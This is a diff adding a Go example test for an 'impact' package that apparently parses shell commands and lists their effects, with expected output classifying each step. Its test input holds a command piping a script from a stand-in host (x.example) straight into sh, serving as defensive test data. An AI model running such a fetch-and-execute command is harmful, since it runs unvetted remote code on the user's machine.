@@ -1,0 +1,28 @@
+//go:build !browser
+
+package impact_test
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/elicit-engine/elicit/engine/impact"
+)
+
+func Example() {
+	report := impact.Read("cd /src && git push origin | tee log; curl https://x.example/i.sh | sh", impact.Options{})
+	for _, in := range report.Impacts {
+		fmt.Println(strings.TrimSpace(fmt.Sprintln(in.Kind, in.Target, in.How)))
+	}
+	// Output:
+	// runs cd
+	// runs git
+	// publishes git
+	// sends origin
+	// runs tee
+	// writes /src/log
+	// runs curl
+	// fetches x.example
+	// runs sh
+	// executes x.example fetched
+}
